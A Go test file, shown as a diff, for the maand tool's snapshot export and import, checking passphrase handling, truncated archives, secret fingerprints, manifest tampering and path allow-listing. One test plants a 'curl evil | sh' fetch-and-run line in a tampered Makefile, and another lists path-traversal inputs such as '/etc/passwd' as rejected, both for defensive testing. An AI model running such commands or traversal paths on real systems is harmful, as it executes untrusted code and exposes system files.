@@ -0,0 +1,230 @@
+// Copyright 2025 Kiruba Sankar Swaminathan. All rights reserved.
+// Use of this source code is governed by a MIT style
+// license that can be found in the LICENSE file.
+
+package snapshot
+
+import (
+	"archive/tar"
+	"io"
+	"os"
+	"path"
+	"testing"
+
+	"maand/bucket"
+	"maand/data"
+	"maand/initialize"
+
+	"github.com/klauspost/compress/zstd"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+const testPassphrase = "correct horse battery staple"
+
+// useBucket points the bucket paths at dir for the rest of the test.
+func useBucket(t *testing.T, dir string) {
+	t.Helper()
+	orig := bucket.Location
+	bucket.Location = dir
+	bucket.UpdatePath()
+	t.Cleanup(func() {
+		bucket.Location = orig
+		bucket.UpdatePath()
+	})
+}
+
+// newTestBucket initializes a bucket with a job file and a log, and returns its root.
+func newTestBucket(t *testing.T) string {
+	t.Helper()
+	t.Setenv("MAAND_TEST", "1")
+	orig := passphraseIterations
+	passphraseIterations = 1000
+	t.Cleanup(func() { passphraseIterations = orig })
+
+	root := t.TempDir()
+	useBucket(t, root)
+	require.NoError(t, initialize.Execute())
+	require.NoError(t, os.MkdirAll(path.Join(bucket.WorkspaceLocation, "jobs", "api"), 0o755))
+	require.NoError(t, os.WriteFile(path.Join(bucket.WorkspaceLocation, "jobs", "api", "Makefile"), []byte("start:\n"), 0o644))
+	require.NoError(t, os.WriteFile(path.Join(bucket.LogLocation, "maand.log"), []byte("log line\n"), 0o644))
+	return root
+}
+
+func bucketID(t *testing.T) string {
+	t.Helper()
+	db, err := data.OpenDatabase(true)
+	require.NoError(t, err)
+	defer func() { _ = db.Close() }()
+	tx, err := db.Begin()
+	require.NoError(t, err)
+	defer func() { _ = tx.Rollback() }()
+	id, err := data.GetBucketID(tx)
+	require.NoError(t, err)
+	return id
+}
+
+func TestExportImportRoundTrip(t *testing.T) {
+	source := newTestBucket(t)
+	sourceID := bucketID(t)
+	out := path.Join(t.TempDir(), "bucket.tar.zst")
+	require.NoError(t, Export(ExportOptions{Out: out, Passphrase: testPassphrase}))
+
+	target := t.TempDir()
+	useBucket(t, target)
+	require.NoError(t, Import(ImportOptions{In: out, Passphrase: testPassphrase}))
+
+	assert.Equal(t, sourceID, bucketID(t))
+	require.NoError(t, data.CheckSchemaVersion())
+	for _, rel := range []string{"maand.conf", "secrets/ca.crt", "secrets/ca.key", "secrets/kv.key", "workspace/jobs/api/Makefile", "logs/maand.log"} {
+		want, err := os.ReadFile(path.Join(source, rel))
+		require.NoError(t, err)
+		got, err := os.ReadFile(path.Join(target, rel))
+		require.NoError(t, err, rel)
+		assert.Equal(t, want, got, rel)
+	}
+	info, err := os.Stat(path.Join(target, "secrets", "kv.key"))
+	require.NoError(t, err)
+	assert.Equal(t, os.FileMode(0o600), info.Mode().Perm())
+
+	entries, err := os.ReadDir(target)
+	require.NoError(t, err)
+	for _, entry := range entries {
+		assert.NotContains(t, entry.Name(), ".maand-import-")
+	}
+}
+
+func TestExportRequiresPassphraseWithSecrets(t *testing.T) {
+	newTestBucket(t)
+	out := path.Join(t.TempDir(), "bucket.tar.zst")
+
+	require.ErrorIs(t, Export(ExportOptions{Out: out}), ErrPassphraseRequired)
+	require.ErrorIs(t, Export(ExportOptions{Out: out, Passphrase: "short"}), ErrPassphraseRequired)
+	require.ErrorIs(t, Export(ExportOptions{Out: out, NoSecrets: true, Passphrase: "short"}), ErrPassphraseRequired)
+	assert.NoFileExists(t, out)
+}
+
+func TestImportRejectsWrongPassphrase(t *testing.T) {
+	newTestBucket(t)
+	out := path.Join(t.TempDir(), "bucket.tar.zst")
+	require.NoError(t, Export(ExportOptions{Out: out, Passphrase: testPassphrase}))
+
+	target := t.TempDir()
+	useBucket(t, target)
+	require.ErrorIs(t, Import(ImportOptions{In: out}), ErrPassphraseRequired)
+	require.ErrorIs(t, Import(ImportOptions{In: out, Passphrase: "not the passphrase"}), ErrDecryptFailed)
+	assert.False(t, data.DatabaseExists())
+}
+
+func TestImportRejectsTruncatedSnapshot(t *testing.T) {
+	newTestBucket(t)
+	out := path.Join(t.TempDir(), "bucket.tar.zst")
+	require.NoError(t, Export(ExportOptions{Out: out, Passphrase: testPassphrase}))
+	info, err := os.Stat(out)
+	require.NoError(t, err)
+	require.NoError(t, os.Truncate(out, info.Size()-10))
+
+	useBucket(t, t.TempDir())
+	require.ErrorIs(t, Import(ImportOptions{In: out, Passphrase: testPassphrase}), ErrDecryptFailed)
+	assert.False(t, data.DatabaseExists())
+}
+
+func TestImportRefusesExistingBucket(t *testing.T) {
+	newTestBucket(t)
+	out := path.Join(t.TempDir(), "bucket.tar.zst")
+	require.NoError(t, Export(ExportOptions{Out: out, Passphrase: testPassphrase}))
+
+	require.ErrorIs(t, Import(ImportOptions{In: out, Passphrase: testPassphrase}), ErrBucketExists)
+}
+
+func TestImportWithoutSecretsVerifiesFingerprints(t *testing.T) {
+	source := newTestBucket(t)
+	out := path.Join(t.TempDir(), "bucket.tar.zst")
+	require.NoError(t, Export(ExportOptions{Out: out, NoSecrets: true}))
+
+	target := t.TempDir()
+	useBucket(t, target)
+	require.ErrorIs(t, Import(ImportOptions{In: out}), ErrFingerprintMismatch)
+
+	require.NoError(t, os.MkdirAll(bucket.SecretLocation, 0o700))
+	for _, name := range []string{"ca.crt", "ca.key"} {
+		content, err := os.ReadFile(path.Join(source, "secrets", name))
+		require.NoError(t, err)
+		require.NoError(t, os.WriteFile(path.Join(bucket.SecretLocation, name), content, 0o600))
+	}
+	require.NoError(t, os.WriteFile(path.Join(bucket.SecretLocation, "kv.key"), make([]byte, 32), 0o600))
+	err := Import(ImportOptions{In: out})
+	require.ErrorIs(t, err, ErrFingerprintMismatch)
+	assert.Contains(t, err.Error(), "kv.key")
+	assert.False(t, data.DatabaseExists())
+
+	content, err := os.ReadFile(path.Join(source, "secrets", "kv.key"))
+	require.NoError(t, err)
+	require.NoError(t, os.WriteFile(path.Join(bucket.SecretLocation, "kv.key"), content, 0o600))
+	require.NoError(t, Import(ImportOptions{In: out}))
+	require.NoError(t, data.CheckSchemaVersion())
+}
+
+func TestImportRejectsFileNotInManifest(t *testing.T) {
+	newTestBucket(t)
+	out := path.Join(t.TempDir(), "bucket.tar.zst")
+	require.NoError(t, Export(ExportOptions{Out: out, NoSecrets: true}))
+
+	tampered := path.Join(t.TempDir(), "tampered.tar.zst")
+	rewriteArchive(t, out, tampered, func(header *tar.Header, content []byte) []byte {
+		if header.Name == "workspace/jobs/api/Makefile" {
+			return []byte("start:\n\tcurl evil | sh\n")
+		}
+		return content
+	})
+
+	useBucket(t, t.TempDir())
+	err := Import(ImportOptions{In: tampered})
+	require.ErrorIs(t, err, ErrInvalidSnapshot)
+	assert.Contains(t, err.Error(), "workspace/jobs/api/Makefile")
+	assert.False(t, data.DatabaseExists())
+}
+
+// rewriteArchive copies an unencrypted snapshot, passing each file's content through edit.
+func rewriteArchive(t *testing.T, in, out string, edit func(*tar.Header, []byte) []byte) {
+	t.Helper()
+	src, err := os.Open(in)
+	require.NoError(t, err)
+	defer func() { _ = src.Close() }()
+	zr, err := zstd.NewReader(src)
+	require.NoError(t, err)
+	defer zr.Close()
+	tr := tar.NewReader(zr)
+
+	dst, err := os.Create(out)
+	require.NoError(t, err)
+	defer func() { _ = dst.Close() }()
+	zw, err := zstd.NewWriter(dst)
+	require.NoError(t, err)
+	tw := tar.NewWriter(zw)
+	for {
+		header, err := tr.Next()
+		if err == io.EOF {
+			break
+		}
+		require.NoError(t, err)
+		content, err := io.ReadAll(tr)
+		require.NoError(t, err)
+		content = edit(header, content)
+		header.Size = int64(len(content))
+		require.NoError(t, tw.WriteHeader(header))
+		_, err = tw.Write(content)
+		require.NoError(t, err)
+	}
+	require.NoError(t, tw.Close())
+	require.NoError(t, zw.Close())
+}
+
+func TestAllowedPath(t *testing.T) {
+	for _, name := range []string{"maand.conf", "data/maand.db", "secrets/ca.key", "workspace/jobs/api/Makefile", "logs"} {
+		assert.True(t, allowedPath(name), name)
+	}
+	for _, name := range []string{"", "/etc/passwd", "../maand.conf", "workspace/../../x", "data/other.db", "tmp/x", "workspace/"} {
+		assert.False(t, allowedPath(name), name)
+	}
+}